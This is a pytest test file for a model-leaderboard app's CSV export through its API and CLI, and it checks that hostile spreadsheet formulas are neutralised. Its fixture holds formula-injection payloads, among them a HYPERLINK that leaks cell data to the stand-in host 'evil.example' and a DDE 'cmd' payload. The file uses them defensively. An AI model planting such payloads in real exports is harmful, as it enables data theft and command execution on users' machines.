"""CSV everywhere a table is (docs/design.md §6): the API's ``?format=csv`` / ``Accept:
text/csv`` and the CLI's ``--csv`` give the same rows as the JSON, readable by Python's csv
module, with formula cells from hostile sources neutralised. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest

from tests import apidata
from tests.cli import run
from tests.raceapp import Race, poll_snapshot, race_app

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_ROWS = [
    {"model": EVIL_NAME, "score": 1200, "license": "MIT"},
    {"model": "@SUM(1+1)", "score": 1190, "license": "+cmd|' /C calc'!A0"},
    {"model": "-2+3", "score": 1180},
]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def race(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Race]:
    directory = tmp_path_factory.mktemp(f"csv-{request.param}")
    with race_app(request.param, directory) as race:
        # A hostile board: model names and a licence a spreadsheet would run as formulas.
        poll_snapshot(race, "evil-board", "2025-08-10T00:00:00Z", EVIL_ROWS, board="evil")
        yield race


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def csv_get(race: Race, path: str, **params: str) -> list[dict[str, str]]:
    response = race.client.get(path, params={**params, "format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    return table(response.text)


def test_standings_csv_has_the_json_rows(race: Race) -> None:
    """Same models, ranks and scores as the JSON, each row citing board and position."""
    body = race.get("/api/v1/standings", as_of="2025-08-20")
    rows = csv_get(race, "/api/v1/standings", as_of="2025-08-20")
    assert [(r["model"], int(r["rank"]), float(r["score"])) for r in rows] == [
        (row["model"], row["rank"], row["score"]) for row in body["rows"]
    ]
    assert {r["position"] for r in rows} == {str(body["position"])}
    assert {r["leaderboard"] for r in rows} == {apidata.BOARD}
    assert rows[0]["open_weights"] == "true"


def test_accept_header_chooses_csv_and_varies(race: Race) -> None:
    """``Accept: text/csv`` gives CSV with its own ETag; a browser's Accept keeps JSON."""
    as_csv = race.client.get("/api/v1/crown", headers={"Accept": "text/csv"})
    as_json = race.client.get("/api/v1/crown", headers={"Accept": "text/html,*/*;q=0.8"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert as_json.headers["content-type"] == "application/json"
    assert as_csv.headers["etag"] != as_json.headers["etag"]
    assert "Accept" in as_csv.headers["vary"] and "Accept" in as_json.headers["vary"]
    reigns = table(as_csv.text)
    assert [r["model"] for r in reigns] == [r["model"] for r in as_json.json()["reigns"]]
    assert reigns[-1]["co_holders"] == "qwen3-235b-a22b-instruct-2507"
    assert reigns[-1]["to"] == ""


def test_list_csv_holds_every_item_unless_limited(race: Race) -> None:
    """Models, labs and cities: all rows without ``limit``; ``limit`` pages as JSON does."""
    every = csv_get(race, "/api/v1/models")
    slugs = [item["slug"] for item in race.get("/api/v1/models", limit=500)["items"]]
    assert [r["slug"] for r in every] == slugs and len(slugs) > 3
    assert [r["slug"] for r in csv_get(race, "/api/v1/models", limit="2")] == slugs[:2]
    labs = csv_get(race, "/api/v1/labs")
    assert {"zhipu", "moonshot"} <= {r["slug"] for r in labs}
    cities = csv_get(race, "/api/v1/cities")
    assert {"beijing", "hangzhou"} <= {r["slug"] for r in cities}
    events = csv_get(race, "/api/v1/events", limit="5")
    assert [r["position"] for r in events] == ["1", "2", "3", "4", "5"]
    glm = csv_get(race, "/api/v1/models/glm-4.5/events")
    assert any(r["item_url"] == f"{apidata.NEWS_URL}/glm-4.5" for r in glm)


def test_formula_cells_are_neutralised(race: Race) -> None:
    """Hostile names and licences come back with a leading apostrophe, never as formulas."""
    rows = csv_get(race, "/api/v1/standings", leaderboard="evil")
    names = {r["model"] for r in rows}
    assert names and not any(name[:1] in "=+-@" for name in names)
    models = {r["name"] for r in csv_get(race, "/api/v1/models")}
    assert "'" + EVIL_NAME in models and "'@SUM(1+1)" in models and "'-2+3" in models
    assert "'+cmd|' /C calc'!A0" in {r["license"] for r in csv_get(race, "/api/v1/models")}
    for path in ("/api/v1/models", "/api/v1/events"):
        for row in csv_get(race, path, limit="500"):
            assert not any(value[:1] in ("=", "+", "@", "\t", "\r") for value in row.values())


def test_bad_format_is_a_422(race: Race) -> None:
    for path in ("/api/v1/standings", "/api/v1/models", "/api/v1/events", "/api/v1/labs"):
        response = race.client.get(path, params={"format": "xlsx"})
        assert response.status_code == 422 and response.json()["error"]["code"] == "bad_request"


def test_cli_csv_matches_the_api(race: Race) -> None:
    """``--csv`` on standings, crown, models, labs, cities, sources and events export."""
    config = race.directory
    env = {
        "CROWNLOG_CATALOG": str(apidata.CATALOG),
        "CROWNLOG_SOURCES": str(config / "sources.toml"),
    }

    def cli(*args: str) -> list[dict[str, str]]:
        done = run(*args, "--csv", url=race.url, cwd=config, env=env)
        assert done.returncode == 0, done.stderr
        return table(done.stdout)

    assert cli("standings", "--as-of", "2025-08-20") == csv_get(
        race, "/api/v1/standings", as_of="2025-08-20"
    )
    assert cli("crown") == csv_get(race, "/api/v1/crown")
    assert cli("models") == csv_get(race, "/api/v1/models")
    assert cli("labs") == csv_get(race, "/api/v1/labs")
    assert cli("cities") == csv_get(race, "/api/v1/cities")
    assert {r["id"] for r in cli("sources")} >= {"race-news", "arena-20250815"}
    exported = cli("events", "export")
    assert len(exported) == race.services.store.head()[0]
    assert exported[:3] == csv_get(race, "/api/v1/events", limit="3")
    both = run("standings", "--csv", "--json", url=race.url, cwd=config, env=env)
    assert both.returncode != 0 and "not both" in both.stderr


def test_models_filters(race: Race) -> None:
    """country, licence, weights, parameter range and slugs narrow the list; bad values 422."""

    def slugs(**params: str) -> set[str]:
        return {m["slug"] for m in race.get("/api/v1/models", limit=500, **params)["items"]}

    assert slugs(params_min="300B") == {"glm-4.5", "kimi-k2", "deepseek-r1-0528"}
    assert slugs(params_min="300B", params_max="400B") == {"glm-4.5"}
    assert "glm-4.5" in slugs(license="mit") and "kimi-k2" not in slugs(license="mit")
    assert "gemini-2.5-pro" in slugs(weights="closed") and "glm-4.5" in slugs(weights="open")
    assert {"glm-4.5", "kimi-k2"} <= slugs(country="cn") and "gemini-2.5-pro" not in slugs(
        country="CN"
    )
    assert slugs(slugs="kimi-k2,glm-4.5") == {"kimi-k2", "glm-4.5"}
    picked = csv_get(race, "/api/v1/models", slugs="kimi-k2,glm-4.5")
    assert [r["slug"] for r in picked] == ["glm-4.5", "kimi-k2"]
    for params in (
        {"params_min": "huge"},
        {"weights": "maybe"},
        {"params_min": "2T", "params_max": "1T"},
    ):
        response = race.client.get("/api/v1/models", params=params)
        assert response.status_code == 422, params
